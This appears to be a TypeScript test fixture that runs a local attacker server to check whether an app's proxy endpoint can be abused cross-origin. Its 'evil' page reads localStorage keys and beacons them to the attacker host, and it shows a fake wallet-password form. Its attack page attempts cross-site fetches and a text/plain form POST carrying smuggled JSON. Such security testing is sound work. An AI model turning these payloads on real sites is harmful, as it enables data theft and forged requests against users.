import { once } from "node:events";
import { createServer, type IncomingMessage } from "node:http";

/**
 * A site on another origin (127.0.0.1, its own port) that attacks the app's
 * proxy the way an outside tester did: its /attack page POSTs a form (and
 * tries fetches) to the app's /api/proxy with /evil as the target; /evil is an
 * HTML page whose script reports, synchronously, where it runs and what it can
 * read. Every request it gets is recorded.
 */

export interface AttackerHit {
  method: string;
  path: string;
  /** The Origin header: who made the browser send it. */
  origin: string | null;
  query: Record<string, string>;
  body: string;
}

export interface Attacker {
  origin: string;
  /** The page that attacks `appOrigin`. */
  attackUrl: string;
  /** The HTML page whose script must never run on the app's origin. */
  evilUrl: string;
  hits: AttackerHit[];
  close(): Promise<void>;
}

async function readBody(req: IncomingMessage): Promise<string> {
  let body = "";
  for await (const chunk of req) body += chunk;
  return body;
}

export async function startAttacker(appOrigin: string): Promise<Attacker> {
  const hits: AttackerHit[] = [];
  let origin = "";
  const server = createServer(async (req, res) => {
    const url = new URL(req.url ?? "/", origin);
    const hit = { method: req.method!, path: url.pathname, origin: req.headers.origin ?? null, query: Object.fromEntries(url.searchParams), body: await readBody(req) };
    hits.push(hit);
    if (url.pathname === "/attack") return void res.writeHead(200, { "content-type": "text/html" }).end(attackPage(appOrigin, origin));
    if (url.pathname === "/evil") return void res.writeHead(200, { "content-type": "text/html" }).end(evilPage(origin));
    // /beacon and /report: answered with CORS so the browser hands the answer back; the hit is what counts.
    res.writeHead(204, { "access-control-allow-origin": "*" }).end();
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  origin = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
  return {
    origin,
    attackUrl: `${origin}/attack`,
    evilUrl: `${origin}/evil`,
    hits,
    async close() {
      server.closeAllConnections();
      server.close();
      await once(server, "close");
    },
  };
}

/** Runs where it lands; the report is a synchronous XHR, so it has reached us before the page's load event. */
function evilPage(attacker: string): string {
  return `<!doctype html><title>Unlock your wallet</title>
<script>
  var stolen = "none";
  try { stolen = String(localStorage.length) + ":" + Object.keys(localStorage).join(","); } catch (e) { stolen = "denied: " + e.name; }
  var x = new XMLHttpRequest();
  x.open("GET", ${JSON.stringify(`${attacker}/beacon`)} + "?from=" + encodeURIComponent(location.origin) + "&storage=" + encodeURIComponent(stolen), false);
  try { x.send(); } catch (e) {}
</script>
<form action="/api/faucet" method="post"><label>Wallet password <input type="password" name="password"></label></form>`;
}

/**
 * Tries what a page on another origin can: a fetch with the chat's header (preflighted), a no-cors POST
 * (a simple request, no custom header), reports both, then submits a cross-site form POST (navigates).
 */
function attackPage(app: string, attacker: string): string {
  const proxied = `${app}/api/proxy?url=${encodeURIComponent(`${attacker}/evil`)}`;
  return `<!doctype html><title>Win a prize</title>
<form id="f" method="post" enctype="text/plain" action=${JSON.stringify(proxied)}><input type="hidden" name='{"messages":[]}' value=""></form>
<script>
  (async function () {
    var target = ${JSON.stringify(proxied)};
    var withHeader = await fetch(target, { method: "POST", headers: { "content-type": "application/json", "x-requested-by": "x402-chat" }, body: "{}" })
      .then(function (r) { return "answered " + r.status; }, function (e) { return "failed: " + e.name; });
    var simple = await fetch(target, { method: "POST", mode: "no-cors", body: "{}" })
      .then(function (r) { return "answered " + r.type; }, function (e) { return "failed: " + e.name; });
    await fetch("/report", { method: "POST", body: JSON.stringify({ withHeader: withHeader, simple: simple }) });
    document.getElementById("f").submit();
  })();
</script>`;
}
